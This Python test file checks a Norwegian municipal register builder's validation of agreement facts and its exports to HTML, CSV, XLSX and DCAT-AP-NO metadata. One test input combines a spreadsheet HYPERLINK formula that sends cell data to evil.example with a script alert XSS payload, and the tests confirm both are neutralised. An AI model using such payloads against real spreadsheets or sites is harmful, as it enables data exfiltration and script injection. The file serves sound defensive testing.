"""The register behind the overview (issue 25): the facts on each agreement
(org.nr, purpose, ownership, decision, link), checked where they stand;
shown in the web edition's rows and the optional appendix; carried by the
JSON, the CSV and the XLSX (never a formula); the data described in
DCAT-AP-NO; the accessibility statement on every page. Every test runs the
real command and reads its outputs back."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import urlsplit
from urllib.request import url2pathname

import jsonschema
import openpyxl
import pytest
import rdflib
from edits import replace
from rdflib.namespace import DCAT, DCTERMS, FOAF, RDF, Namespace
from readback import docx_paragraphs, pdf_text

from builder.cli import main
from builder.publish import SCHEMA

VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
STATEMENT = "https://uustatus.no/nb/erklaringer/publisert/0a1b2c3d"
# a purpose that is markup and a formula at once, a name that looks like a formula
PURPOSE = '=HYPERLINK("https://evil.example/?"&A1;"Klikk") <script>alert(1)</script> & mer'
FACTS = """\
      - name: Borgerlig vigsel
        form: Avtale
        members: [Lillehammer, Gausdal]
        comment: Med Ringebu
        orgnr: "923 609 016"
        purpose: '{purpose}'
        ownership: {{Lillehammer: 12.5, Gausdal: 4.1}}
        decision: {{reference: "K-38/23", date: 2023-06-15}}
        url: https://www.lillehammer.kommune.no/vigsel?a=1&b=2
      - name: "@SUM(1+1)"
        form: Avtale
        members: [Øyer]
        decision:
          Øyer: {{reference: "PS 12/22", date: 2022-03-01}}
""".format(purpose=PURPOSE.replace("'", "''"))
BASE_AGREEMENT = (
    "      - name: Borgerlig vigsel\n        form: Avtale\n        members: [Lillehammer, Gausdal]\n"
    "        comment: Med Ringebu\n"
)
PUBLICATION = f"""\
publisher: Lillehammer kommune
contact: {{name: Kommunedirektøren, email: post@lillehammer.kommune.no}}
accessibility_statement: {STATEMENT}
"""


def facts_edition(make_edition, *more):
    return make_edition(
        replace("agreements.yaml", BASE_AGREEMENT, FACTS),
        replace("report.yaml", "text: [innledning.md]\n", "text: [innledning.md]\n" + PUBLICATION),
        *more,
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from edits import make_edition

    folder = tmp_path_factory.mktemp("register")
    content = make_edition(folder / "content")
    for old, new in ((BASE_AGREEMENT, FACTS), ("text: [innledning.md]\n", "text: [innledning.md]\n" + PUBLICATION)):
        path = content / ("agreements.yaml" if old == BASE_AGREEMENT else "report.yaml")
        path.write_text(path.read_text("utf-8").replace(old, new), "utf-8")
    out = folder / "site"
    assert main(["publish", str(content), "--out", str(out)]) == 0
    return out


# --- the facts, checked where they stand -----------------------------------


def _check(content: Path, capsys) -> tuple[int, str]:
    code = main(["check", str(content)])
    return code, capsys.readouterr().err


@pytest.mark.parametrize(
    ("old", "new", "line", "message"),
    [
        ('orgnr: "923 609 016"', 'orgnr: "923 609 017"', 12, "923 609 017 har feil kontrollsiffer"),
        ('orgnr: "923 609 016"', 'orgnr: "923 609 01"', 12, "'orgnr' skal ha ni sifre"),
        ("Gausdal: 4.1}", "Gausdal: 94.1}", 14, "til sammen 106,6 %, mer enn 100 %"),
        ("Gausdal: 4.1}", "Øyer: 4.1}", 14, "'Øyer' i 'ownership' deltar ikke i samarbeidet"),
        ("Gausdal: 4.1}", "Gausdal: 104}", 14, "eierandelen til 'Gausdal' skal være et tall fra 0 til 100"),
        ("url: https://www", "url: javascript://www", 16, "'url' skal være en nettadresse som begynner med https://"),
        ("Øyer: {reference", "Lillehammer: {reference", 21, "'Lillehammer' i 'decision' deltar ikke"),
        ("date: 2023-06-15}", "dato: 2023-06-15}", 15, "ukjent nøkkel 'dato' i vedtaket"),
    ],
)
def test_a_wrong_fact_is_an_error_at_its_line(make_edition, capsys, old, new, line, message):
    content = facts_edition(make_edition, replace("agreements.yaml", old, new))
    code, err = _check(content, capsys)
    assert code == 1
    located = [row for row in err.splitlines() if f"agreements.yaml:{line}:" in row and ": error: " in row]
    assert located and message in located[0], err


def test_the_facts_pass_and_the_check_digit_is_modulus_11(make_edition, capsys):
    code, err = _check(facts_edition(make_edition), capsys)
    assert code == 0, err
    from builder import orgnr

    assert orgnr.is_valid("923609016") and not orgnr.is_valid("923609017")
    assert orgnr.check_digit("00000001") is not None
    # a first eight digits whose remainder gives 10 has no valid number at all
    assert any(orgnr.check_digit(f"{n:08d}") is None for n in range(100))


def test_report_keys_are_checked(make_edition, capsys):
    content = facts_edition(
        make_edition,
        replace("report.yaml", "email: post@lillehammer.kommune.no", "email: ikke en adresse"),
        replace("report.yaml", f"accessibility_statement: {STATEMENT}", "accessibility_statement: /erklaering"),
    )
    code, err = _check(content, capsys)
    assert code == 1
    assert "report.yaml:7:" in err and "'ikke en adresse' er ingen e-postadresse" in err
    assert "report.yaml:8:" in err and "'accessibility_statement' skal være en nettadresse" in err


# --- where the facts show ----------------------------------------------------


def test_the_web_row_opens_every_fact_escaped_and_linked(site):
    page = (site / "index.html").read_text("utf-8")
    shown = re.findall(r'<details class="facts">.*?</details>', page)
    assert len(shown) == 2, "one in each row that has facts, none in the others"
    details = shown[0]
    assert "<summary>Fakta om samarbeidet</summary>" in details
    assert '<a href="https://virksomhet.brreg.no/nb/oppslag/enheter/923609016">923 609 016</a>' in details
    assert "Lillehammer 12,5\u00a0%, Gausdal 4,1\u00a0%" in details
    assert "K-38/23, 15. juni 2023" in details
    assert '<a href="https://www.lillehammer.kommune.no/vigsel?a=1&amp;b=2">lillehammer.kommune.no</a>' in details
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; mer" in details and "<script>" not in page
    # the other agreement's decision alone is a fact too
    assert "Øyer: PS 12/22, 1. mars 2022" in page


def test_the_accessibility_statement_is_in_the_footer_of_every_page(site):
    pages = sorted(site.glob("*.html"))
    assert len(pages) == 4
    for page in pages:
        footer = re.search(r"<footer>.*?</footer>", page.read_text("utf-8"), re.S)
        assert footer and f'<a href="{STATEMENT}">Tilgjengelighetserklæring</a>' in footer.group(), page.name


def test_the_printed_table_is_unchanged_and_the_appendix_is_a_layout_option(make_edition, tmp_path):
    plain = facts_edition(make_edition)
    assert main(["build", str(plain), "--out", str(tmp_path / "plain"), "--format", "pdf"]) == 0
    assert "Fakta om samarbeidene" not in pdf_text(tmp_path / "plain" / "oversikt-2019.pdf")
    content = facts_edition(make_edition, replace("report.yaml", "language: nb", "language: nb\nlayout: med-fakta"))
    (content / "layouts").mkdir()
    (content / "layouts" / "med-fakta.yaml").write_text("extends: oversikt\nfacts:\n  appendix: true\n", "utf-8")
    out = tmp_path / "appendix"
    assert main(["build", str(content), "--out", str(out), "--format", "pdf,docx"]) == 0
    words = " ".join(pdf_text(out / "oversikt-2019.pdf").split())
    paragraphs = [text for _, text in docx_paragraphs(out / "oversikt-2019.docx")]
    for text in (words, " ".join(paragraphs)):
        assert "Fakta om samarbeidene" in text
        assert "Organisasjonsnummer: 923 609 016" in text
        assert "https://www.lillehammer.kommune.no/vigsel?a=1&b=2" in text  # the whole address, on paper
        assert "Vedtak: Øyer: PS 12/22, 1. mars 2022" in text


# --- the data -------------------------------------------------------------------


def test_the_json_carries_every_fact_and_validates(site):
    data = json.loads((site / "oversikt-2019.json").read_text("utf-8"))
    jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text("utf-8"))).validate(data)
    vigsel = data["categories"][0]["agreements"][1]
    assert vigsel["orgnr"] == "923609016" and vigsel["purpose"] == PURPOSE
    assert vigsel["ownership"] == [
        {"participant": "Lillehammer", "percent": 12.5},
        {"participant": "Gausdal", "percent": 4.1},
    ]
    assert vigsel["decisions"] == [{"member": None, "reference": "K-38/23", "date": "2023-06-15"}]
    assert vigsel["url"] == "https://www.lillehammer.kommune.no/vigsel?a=1&b=2"


def test_the_csv_carries_every_fact_and_no_live_formula(site):
    rows = list(csv.reader(io.StringIO((site / "oversikt-2019.csv").read_text("utf-8-sig"))))
    header = rows[0]
    assert header[-5:] == ["organisasjonsnummer", "formål", "eierandeler", "vedtak", "lenke"]
    vigsel = dict(zip(header, rows[2], strict=True))
    assert vigsel["organisasjonsnummer"] == "923609016"
    assert vigsel["formål"] == "'" + PURPOSE
    assert vigsel["eierandeler"] == "Lillehammer 12,5 %, Gausdal 4,1 %"
    assert vigsel["vedtak"] == "K-38/23, 15. juni 2023"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_page_links_the_xlsx_which_has_the_csv_columns_and_no_formula(site):
    page = (site / "index.html").read_text("utf-8")
    assert '<a href="oversikt-2019.xlsx">Samarbeidene som regneark (Excel)</a>' in page
    rows = list(csv.reader(io.StringIO((site / "oversikt-2019.csv").read_text("utf-8-sig"))))
    workbook = openpyxl.load_workbook(site / "oversikt-2019.xlsx")
    (sheet,) = workbook.worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell is a formula"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == rows[0]
    assert (
        sheet.freeze_panes == "A2"
        and sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(rows[0])).column_letter}{len(rows)}"
    )
    header = values[0]
    vigsel = dict(zip(header, values[2], strict=True))
    assert vigsel["formål"] == PURPOSE, "the text itself, an apostrophe only in the CSV"
    assert vigsel["Lillehammer"] == "x" and vigsel["Øyer"] is None
    named = dict(zip(header, values[3], strict=True))
    assert named["navn"] == "@SUM(1+1)"
    # the column is as wide as its text
    assert sheet.column_dimensions["A"].width >= len("Administrativt samarbeid")


def test_the_xlsx_writes_dates_as_dates_and_the_same_bytes_each_time(tmp_path):
    import datetime as dt

    from builder.spreadsheet import workbook_bytes

    rows = [["navn", "startet", "år"], ["=1+1", dt.date(2020, 3, 1), 2019], ["+47 61 05 00 00", None, None]]
    data = workbook_bytes(rows, "Region", dt.date(2019, 1, 1))
    assert data == workbook_bytes(rows, "Region", dt.date(2019, 1, 1))
    (tmp_path / "t.xlsx").write_bytes(data)
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A2"].value == "=1+1" and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "+47 61 05 00 00" and sheet["A3"].data_type == "s"
    assert sheet["B2"].is_date and sheet["B2"].value.date() == dt.date(2020, 3, 1)
    assert sheet["C2"].value == 2019


def test_the_dataset_is_a_complete_dcat_ap_no_description(site):
    graph = rdflib.Graph().parse(site / "datasett.jsonld", format="json-ld")
    (dataset,) = graph.subjects(RDF.type, DCAT.Dataset)
    for prop in (DCTERMS.title, DCTERMS.description):
        (value,) = graph.objects(dataset, prop)
        assert isinstance(value, rdflib.Literal) and value.language == "nb" and str(value)
    (publisher,) = graph.objects(dataset, DCTERMS.publisher)
    assert str(graph.value(publisher, FOAF.name)) == "Lillehammer kommune"
    (contact,) = graph.objects(dataset, DCAT.contactPoint)
    assert (contact, RDF.type, VCARD.Organization) in graph
    assert str(graph.value(contact, VCARD.fn)) == "Kommunedirektøren"
    assert graph.value(contact, VCARD.hasEmail) == rdflib.URIRef("mailto:post@lillehammer.kommune.no")
    assert set(graph.objects(dataset, DCAT.theme)) == {
        rdflib.URIRef("http://publications.europa.eu/resource/authority/data-theme/GOVE")
    }
    assert list(graph.objects(dataset, DCTERMS.spatial)) and list(graph.objects(dataset, DCTERMS.temporal))
    period = graph.value(dataset, DCTERMS.temporal)
    assert str(graph.value(period, DCAT.startDate)) == "2019-01-01"
    assert graph.value(dataset, DCTERMS.license) == rdflib.URIRef("http://data.norge.no/nlod/no/2.0")
    found = {}
    for distribution in graph.objects(dataset, DCAT.distribution):
        (access,) = graph.objects(distribution, DCAT.accessURL)
        assert isinstance(access, rdflib.URIRef)
        path = Path(url2pathname(urlsplit(str(access)).path))
        assert path.parent == site and path.is_file(), "the access URL resolves to the published file"
        found[path.suffix] = (
            str(graph.value(distribution, DCTERMS.format)),
            str(graph.value(distribution, DCAT.mediaType)),
        )
    assert found == {
        ".csv": ("http://publications.europa.eu/resource/authority/file-type/CSV",
                 "https://www.iana.org/assignments/media-types/text/csv"),
        ".json": ("http://publications.europa.eu/resource/authority/file-type/JSON",
                  "https://www.iana.org/assignments/media-types/application/json"),
        ".xlsx": ("http://publications.europa.eu/resource/authority/file-type/XLSX",
                  "https://www.iana.org/assignments/media-types/application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    }  # fmt: skip


def test_a_publication_without_contact_warns_and_a_licence_can_be_named(make_edition, tmp_path, capsys):
    content = facts_edition(
        make_edition,
        replace("report.yaml", "contact: {name: Kommunedirektøren, email: post@lillehammer.kommune.no}\n", ""),
        replace(
            "report.yaml", "publisher: Lillehammer kommune\n", "license: https://creativecommons.org/licenses/by/4.0/\n"
        ),
    )
    assert main(["publish", str(content), "--out", str(tmp_path / "site")]) == 0
    assert "report.yaml: warning: report.yaml har ingen 'contact'" in capsys.readouterr().err
    graph = rdflib.Graph().parse(tmp_path / "site" / "datasett.jsonld", format="json-ld")
    (dataset,) = graph.subjects(RDF.type, DCAT.Dataset)
    assert graph.value(dataset, DCTERMS.license) == rdflib.URIRef("https://creativecommons.org/licenses/by/4.0/")
    assert str(graph.value(graph.value(dataset, DCTERMS.publisher), FOAF.name)) == "Lillehammer-regionen"
